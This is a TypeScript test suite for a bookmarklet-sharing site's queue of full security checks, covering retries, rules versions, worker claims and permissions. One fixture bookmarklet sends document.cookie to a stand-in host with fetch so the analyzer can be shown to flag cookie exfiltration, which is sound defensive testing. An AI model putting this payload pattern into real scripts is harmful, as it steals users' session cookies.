import { randomUUID } from "node:crypto";
import { fail, succeed } from "@scriptorium/core-types/errors";
import { readLaterChecks } from "@scriptorium/hub-data/security/read-later-checks";
import type { AnalysisResult } from "@scriptorium/script-analyzer/analysis-result";
import { analyzeScript } from "@scriptorium/script-analyzer/analyze-script";
import { createFullCheckStore } from "@scriptorium/supabase/canary-worker/full-check/full-check-store";
import { LONG } from "@scriptorium/supabase/canary-worker/full-check/large-scripts.test-support";
import { runFullCheck } from "@scriptorium/supabase/canary-worker/full-check/run-full-check";
import { workOffChecks } from "@scriptorium/supabase/canary-worker/full-check/work-off-checks";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { drain, emptyQueue, reportsOf, samples } from "../support/analysis.ts";
import { forgetRates, newcomer, openFixture, type Person } from "../support/fixture.ts";
import { save } from "../support/save.ts";

const fixture = openFixture();
const { sql, people } = fixture;
const author = await newcomer(fixture, "Fanny Full");
const store = createFullCheckStore({ url: fixture.backend.url, serviceRoleKey: fixture.backend.serviceRoleKey });
const { signal } = new AbortController();
afterAll(() => fixture.close());
beforeEach(async () => {
	await emptyQueue(fixture);
	await forgetRates(fixture);
	await sql`delete from private.full_checks`;
	await sql`delete from private.check_workers`;
});

const green = analyzeScript({ code: samples.harmless });
/** A result as the first check has it for a script that is too long for it. */
const inPart: AnalysisResult = {
	...green,
	risk_level: "amber",
	score: 60,
	vulnerabilities: [
		{ type: "checked-in-part", severity: "medium", line: 1, column: 1, description: "Not checked in full.", path: [] },
	],
};
const record = (versionId: string, result: AnalysisResult) => sql`
	select public.record_analysis(${versionId}, ${result.risk_level}, ${result.score}, ${sql.json(JSON.parse(JSON.stringify(result)))}, ${result.rules_version})`;
async function saveInPart(by = author) {
	const saved = await save(by, { p_code: `${samples.harmless}//${randomUUID()}`, p_publish: true });
	await record(saved.version_id, inPart);
	return saved.version_id;
}
const noLibraries = () => Promise.resolve({ stored: [], rated: [] });
const work = (outcome: Awaited<ReturnType<typeof runFullCheck>>) =>
	workOffChecks({ store, signal, load: noLibraries, run: () => Promise.resolve(outcome) });
const claimed = async () => {
	const claim = await store.claim();
	return claim.ok ? (claim.value?.versionId ?? null) : claim.error;
};
/** What a person, a visitor if left out, is told about the full check. */
async function told(versionId: string, person: Person = people.anon) {
	const read = await readLaterChecks(person.hub, { versionId });
	return read.ok ? (read.value?.fullCheck ?? null) : read.error;
}
const hurry = (versionId: string) => sql`
	update private.full_checks set started_at = started_at - interval '361 seconds', not_before = not_before - interval '2 hours'
	where version_id = ${versionId}`;

describe("a full check", () => {
	test("replaces the report of a script that was checked in part, and tells visitors how far it is", async () => {
		const code = `javascript:(()=>{${LONG}fetch("https://c.test/" + document.cookie)})()`;
		const { version_id: versionId } = await save(author, { p_code: code, p_publish: true });
		expect(await told(versionId)).toBeNull();
		await drain(fixture);
		expect(await reportsOf(fixture, versionId)).toMatchObject([{ risk_level: "amber" }]);
		// No worker has asked for work yet, so nothing is promised.
		expect(await told(versionId)).toBe("waiting");
		const states: unknown[] = [];
		const done = await workOffChecks({
			store,
			signal,
			load: noLibraries,
			run: async (input) => {
				states.push(await told(versionId));
				return runFullCheck(input, { signal });
			},
		});
		expect([done, states]).toEqual([succeed({ done: 1, fuller: 1 }), ["under_way"]]);
		expect(await reportsOf(fixture, versionId)).toMatchObject([{ risk_level: "amber" }, { risk_level: "red" }]);
		expect(await told(versionId)).toBe("done");
		const [script] =
			await sql`select risk_level, security_analysis from public.bookmarklets where latest_version_id = ${versionId}`;
		expect(script).toMatchObject({
			risk_level: "red",
			security_analysis: { vulnerabilities: [{ type: "cookie-exfiltration" }] },
		});
		// The edge function answers with the fuller report, and a re-scan by the same rules keeps it.
		await record(versionId, inPart);
		expect(await reportsOf(fixture, versionId)).toHaveLength(2);
	});

	test("is for the newest version of a script that was checked in part, and no other", async () => {
		const full = await save(author, { p_code: samples.harmless, p_publish: true });
		await record(full.version_id, green);
		expect([await claimed(), await told(full.version_id)]).toEqual([null, null]);
		const first = await save(author, { p_code: `${samples.harmless}//1`, p_publish: true });
		await record(first.version_id, inPart);
		await save(author, { p_id: first.id, p_base_version_id: first.version_id, p_code: `${samples.harmless}//2` });
		expect(await claimed()).toBeNull();
		expect(await sql`select version_id from private.full_checks`).toEqual([]);
	});

	test("comes once for each set of rules, and only from a worker with the same rules", async () => {
		const versionId = await saveInPart();
		expect(await work(succeed(inPart))).toMatchObject({ value: { done: 1, fuller: 1 } });
		expect(await work(succeed(green))).toMatchObject({ value: { done: 0 } });
		await record(versionId, { ...inPart, rules_version: "other-rules" });
		expect([await claimed(), await told(versionId)]).toEqual([null, "waiting"]);
		await sql`select public.record_full_check(${versionId}, 'other-rules', ${sql.json({ risk_level: "green", score: 99 })})`;
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({
			rules_version: "other-rules",
			risk_level: "amber",
		});
	});

	test("is not stored when other rules have rated the version meanwhile", async () => {
		const versionId = await saveInPart();
		await claimed();
		await record(versionId, { ...green, risk_level: "red", score: 10, rules_version: "other-rules" });
		await store.record(versionId, { state: "rated", result: green, files: [] });
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({ risk_level: "red" });
		// The first check by these rules reached the end, so what is shown is not a result of a full check.
		expect(await told(versionId)).toBeNull();
	});

	test("is claimed again when its worker was killed, at most three times", async () => {
		const versionId = await saveInPart();
		for (let attempt = 1; attempt <= 3; attempt += 1) {
			expect(await claimed()).toBe(versionId);
			expect(await claimed()).toBeNull();
			await hurry(versionId);
		}
		expect([await claimed(), await told(versionId)]).toEqual([null, "no_result"]);
	});

	test("without a result is tried again later, and then leaves the report as it is", async () => {
		const versionId = await saveInPart();
		for (let attempt = 1; attempt <= 3; attempt += 1) {
			expect(await work(fail("no_result", "It took more than 120 s."))).toMatchObject({
				value: { done: 1, fuller: 0 },
			});
			expect(await claimed()).toBeNull();
			expect(await told(versionId)).toBe(attempt < 3 ? "waiting" : "no_result");
			await hurry(versionId);
		}
		expect([await claimed(), await reportsOf(fixture, versionId)]).toMatchObject([null, [{ risk_level: "amber" }]]);
	});

	test("also follows when the clock has ended every attempt of the first one", async () => {
		const { version_id: versionId } = await save(author, { p_publish: true });
		const unrated: AnalysisResult = { ...green, risk_level: "unrated", score: 0 };
		await record(versionId, unrated);
		expect(await claimed()).toBeNull();
		await sql`select public.postpone_analysis(${versionId})`;
		expect(await work(succeed(green))).toMatchObject({ value: { done: 1, fuller: 1 } });
		expect(await reportsOf(fixture, versionId)).toMatchObject([{ risk_level: "unrated" }, { risk_level: "green" }]);
	});

	test("keeps what a test run has seen", async () => {
		const versionId = await saveInPart();
		const findings = [{ type: "canary-cookie", severity: "critical" }];
		await sql`
			insert into private.canary_runs (version_id, canary_version, state, findings) values (${versionId}, '1', 'ran', ${sql.json(findings)})`;
		await work(succeed(green));
		expect((await reportsOf(fixture, versionId)).at(-1)).toMatchObject({ risk_level: "red", score: 15 });
	});
});

describe("the queue of full checks", () => {
	test("lets authors take turns, and gives what failed after what is new", async () => {
		const other = await newcomer(fixture, "Oscar Other");
		const many = [await saveInPart(), await saveInPart(), await saveInPart()];
		const theirs = await saveInPart(other);
		await work(fail("no_result", "It took too long.")).then(
			() => sql`update private.full_checks set not_before = '-infinity'`,
		);
		await sql`update private.full_checks set state = 'waiting', attempts = 0, started_at = null where version_id <> ${many[0] ?? ""}`;
		expect([await claimed(), await claimed(), await claimed(), await claimed()]).toEqual([
			theirs,
			many[1],
			many[2],
			many[0],
		]);
	});

	test("never gives a version to two workers", async () => {
		const saved = [await saveInPart(), await saveInPart()];
		const all = await Promise.all(Array.from({ length: 6 }, claimed));
		expect(all.filter((one) => one !== null).toSorted()).toEqual(saved.toSorted());
	});

	test("promises nothing when the worker has been gone for two minutes", async () => {
		const versionId = await saveInPart();
		await sql`select private.note_worker('full-check', ${green.rules_version})`;
		expect(await told(versionId)).toBe("under_way");
		await sql`update private.check_workers set seen_at = now() - interval '121 seconds'`;
		expect(await told(versionId)).toBe("waiting");
	});

	test("is for the service role alone, and drafts are nobody's business but their owner's", async () => {
		for (const { hub } of Object.values(people)) {
			expect((await hub.rpc("claim_full_check", { p_rules_version: "1" })).error?.code).toBe("42501");
			const args = { p_version_id: randomUUID(), p_rules_version: "1", p_summary: {} };
			expect((await hub.rpc("record_full_check", args)).error?.code).toBe("42501");
		}
		const draft = await save(author, { p_code: samples.harmless, p_publish: false });
		await record(draft.version_id, inPart);
		expect([await told(draft.version_id, author), await told(draft.version_id)]).toEqual(["waiting", null]);
	});
});
